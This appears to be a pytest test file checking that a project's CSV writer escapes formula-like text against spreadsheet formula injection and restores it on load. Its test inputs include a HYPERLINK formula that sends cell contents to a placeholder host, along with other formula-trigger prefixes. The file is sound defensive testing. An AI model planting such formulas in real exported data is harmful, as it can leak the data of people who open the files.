"""Texts in CSV files are not evaluated by spreadsheets, and are restored when they are read."""

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from byol_kedro.datasets.tables import CSVDataset
from byol_kedro.files.cells import guarded, unguarded
from tests.support.run_builder import RunBuilder, type_results

FORMULAS = [
    '=HYPERLINK("http://h?"&A1,"x")', "=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "＝1", "＋1", "－1", "＠x", "-5", "'=1", "''=1",
]  # fmt: skip
PLAIN = ["", "a", "train/-cat/=1.png", "'quoted'", "1-2", "–", " =1", "a\n=1"]
TEXTS = st.one_of(st.sampled_from(FORMULAS + PLAIN), st.text(max_size=5), st.text("'=+-@\t", max_size=5))


def cells_in(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_are_escaped(tmp_path: Path, text: str) -> None:
    dataset = CSVDataset(filepath=str(tmp_path / "a.csv"))
    dataset.save(pd.DataFrame({"name": [text, "plain"], "n": [-1, 2]}))
    assert cells_in(tmp_path / "a.csv")[1:] == [[f"'{text}", "-1"], ["plain", "2"]]
    assert dataset.load()["name"].tolist() == [text, "plain"]


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_are_unchanged(text: str) -> None:
    assert guarded(text) == unguarded(text) == text


@given(text=TEXTS)
def test_texts_are_restored(text: str) -> None:
    assert unguarded(guarded(text)) == text


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(names=st.lists(st.sampled_from(FORMULAS), min_size=1, max_size=4))
def test_numbers_are_unchanged(tmp_path: Path, names: list[str]) -> None:
    numbers = [-0.1 - index for index in range(len(names))]
    table = pd.DataFrame({
        "name": names, "float": numbers, "none": [np.nan] * len(names), "true": True,
        "mixed": pd.Series([-1.5, *names][: len(names)], dtype=object),
    })  # fmt: skip
    dataset = CSVDataset(filepath=str(tmp_path / "a.csv"))
    dataset.save(table)
    rows = cells_in(tmp_path / "a.csv")[1:]
    assert [row[1:4] for row in rows] == [[str(number), "", "True"] for number in numbers]
    assert rows[0][4] == "-1.5"
    assert dataset.load()["float"].tolist() == numbers


def test_categories_are_escaped(tmp_path: Path) -> None:
    CSVDataset(filepath=str(tmp_path / "a.csv")).save(pd.DataFrame({"class": pd.Categorical(["=a", "b", "=a"])}))
    assert [row[0] for row in cells_in(tmp_path / "a.csv")[1:]] == ["'=a", "b", "'=a"]


def test_list_of_runs_is_escaped(tmp_path: Path) -> None:
    RunBuilder(tmp_path).died("2026-03-01T10.00.00.000Z", command="=cmd")
    (row,) = csv.DictReader(type_results(tmp_path, "--format=csv").lines)
    assert row["command"] == "'=cmd"


def test_cluster_list_is_escaped(tmp_path: Path) -> None:
    from byol_kedro.runs.history import open_catalog, versioned_entries  # noqa: PLC0415  (the project has to be bootstrapped first)

    place = {"env": "test", "conf_source": None, "runtime_params": {"data_root": str(tmp_path)}}
    entries = versioned_entries(open_catalog(place))
    of_files = {name for name, entry in entries.items() if entry._filepath.suffix == ".csv"}
    assert "cluster_list" in of_files
    assert all(isinstance(entries[name], CSVDataset) for name in of_files)
